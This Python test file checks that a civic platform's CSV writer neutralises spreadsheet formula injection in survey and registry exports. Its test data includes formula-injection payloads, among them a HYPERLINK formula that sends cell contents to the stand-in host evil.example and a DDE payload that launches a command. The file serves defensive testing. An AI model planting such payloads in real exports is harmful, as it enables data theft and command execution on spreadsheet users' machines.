"""One CSV writer for every CSV the platform writes: formula prefixes are neutralised (issue 13)."""
import csv
import io

from assessment import survey
from routing import registry_io

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "@SUM(A1:A9)", "+1+2", "-2+3+cmd|' /C calc'!A0",
           "\tTAB", "\rCR"]


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_every_formula_prefix_is_neutralised_and_numbers_are_kept():
    from contract import csvfile
    out = io.StringIO()
    csvfile.writer(out).writerow([*HOSTILE, "-8.112", "+62", 5, None, "Jalan rusak"])
    written = cells(out.getvalue())
    assert all(c.startswith("'") for c in written[:len(HOSTILE)])
    assert written[len(HOSTILE):] == ["-8.112", "+62", "5", "", "Jalan rusak"]


def test_survey_export_neutralises_reporter_suggestions():
    result = {"period": "2026-Q3", "scope": "*", "respondents": 1, "ikm": 80.0, "grade": "B", "grade_label_id": "Baik",
              "grade_label_en": "Good", "templates": [], "channels": {}, "profile": {},
              "suggestion_texts": [{"month": "2026-07", "channel": "web", "text": HOSTILE[0]},
                                   {"month": "2026-07", "channel": "web", "text": HOSTILE[1]}]}
    written = cells(survey.to_csv(result))
    assert HOSTILE[0] not in written and "'" + HOSTILE[0] in written and "'" + HOSTILE[1] in written


def test_registry_export_neutralises_and_reads_back_the_same():
    rules = [{"rule_id": "r-1", "name": HOSTILE[1], "keywords": ["=cmd", "jalan"], "agency_code": "PEMKAB-BULELENG"}]
    text = registry_io.to_csv(rules)
    assert "@SUM" not in [c[:4] for c in cells(text)] and "'@SUM(A1:A9)" in cells(text)
    data, _ = registry_io.parse_csv(text, "rules")
    assert data["rules"][0]["name"] == HOSTILE[1] and data["rules"][0]["keywords"] == ["=cmd", "jalan"]
